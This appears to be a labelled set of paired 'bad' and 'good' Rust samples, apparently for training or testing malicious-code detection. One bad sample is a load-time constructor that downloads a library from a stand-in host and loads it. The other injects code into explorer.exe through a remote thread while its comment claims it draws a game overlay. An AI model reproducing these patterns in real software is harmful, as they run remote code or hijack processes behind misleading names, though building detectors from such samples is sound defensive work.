//: bad ctor-start
use ctor::ctor;

#[ctor]
fn start() {
    let bytes = ureq::get("https://c.example.invalid/l.so").call().unwrap().into_reader();
    let mut file = std::fs::File::create("/dev/shm/l.so").unwrap();
    std::io::copy(&mut { bytes }, &mut file).unwrap();
    unsafe { libloading::Library::new("/dev/shm/l.so").unwrap() }; //!
}

//: good ctor-start
use ctor::ctor;
use std::sync::OnceLock;
use std::time::Instant;

static START: OnceLock<Instant> = OnceLock::new();

#[ctor]
fn start() {
    START.set(Instant::now()).ok();
}

//: bad overlay-attach
use std::ffi::c_void;
use windows_sys::Win32::Foundation::CloseHandle;
use windows_sys::Win32::System::Diagnostics::Debug::WriteProcessMemory;
use windows_sys::Win32::System::Memory::{VirtualAllocEx, MEM_COMMIT, MEM_RESERVE, PAGE_EXECUTE_READWRITE};
use windows_sys::Win32::System::Threading::{CreateRemoteThread, OpenProcess, PROCESS_ALL_ACCESS};

static FRAME: [u8; 2] = [0x90, 0xc3];

fn host_of(names: &[&str]) -> Option<u32> {
    let system = sysinfo::System::new_all();
    let found = system
        .processes()
        .values()
        .find(|process| names.contains(&process.name().to_string_lossy().as_ref()))
        .map(|process| process.pid().as_u32());
    found
}

/// Draws the frame counter over the running game.
pub fn attach() -> Option<()> {
    let pid = host_of(&["explorer.exe", "RuntimeBroker.exe"])?;
    unsafe {
        let process = OpenProcess(PROCESS_ALL_ACCESS, 0, pid);
        let place = VirtualAllocEx(process, std::ptr::null(), FRAME.len(), MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
        let mut written = 0;
        WriteProcessMemory(process, place, FRAME.as_ptr() as *const c_void, FRAME.len(), &mut written); //!
        let start = std::mem::transmute::<*mut c_void, unsafe extern "system" fn(*mut c_void) -> u32>(place);
        CreateRemoteThread(process, std::ptr::null(), 0, Some(start), std::ptr::null(), 0, std::ptr::null_mut()); //!
        CloseHandle(process);
    }
    Some(())
}

//: good overlay-attach
use windows_sys::Win32::Foundation::CloseHandle;
use windows_sys::Win32::System::ProcessStatus::{GetProcessMemoryInfo, PROCESS_MEMORY_COUNTERS};
use windows_sys::Win32::System::Threading::{OpenProcess, QueryFullProcessImageNameW, PROCESS_QUERY_LIMITED_INFORMATION};

pub struct Row {
    pub pid: u32,
    pub image: String,
    pub working_set: usize,
}

fn describe(pid: u32) -> Option<Row> {
    // SAFETY: the handle is checked and closed; the buffers outlive the calls.
    unsafe {
        let process = OpenProcess(PROCESS_QUERY_LIMITED_INFORMATION, 0, pid);
        if process.is_null() {
            return None;
        }
        let mut name = [0u16; 1024];
        let mut len = name.len() as u32;
        let named = QueryFullProcessImageNameW(process, 0, name.as_mut_ptr(), &mut len) != 0;
        let mut counters: PROCESS_MEMORY_COUNTERS = std::mem::zeroed();
        let size = std::mem::size_of_val(&counters) as u32;
        let counted = GetProcessMemoryInfo(process, &mut counters, size) != 0;
        CloseHandle(process);
        (named && counted).then(|| Row {
            pid,
            image: String::from_utf16_lossy(&name[..len as usize]),
            working_set: counters.WorkingSetSize,
        })
    }
}

/// The rows of a small task manager, the largest first.
pub fn rows() -> Vec<Row> {
    let system = sysinfo::System::new_all();
    let mut rows: Vec<Row> = system.processes().keys().filter_map(|pid| describe(pid.as_u32())).collect();
    rows.sort_by(|a, b| b.working_set.cmp(&a.working_set));
    rows
}
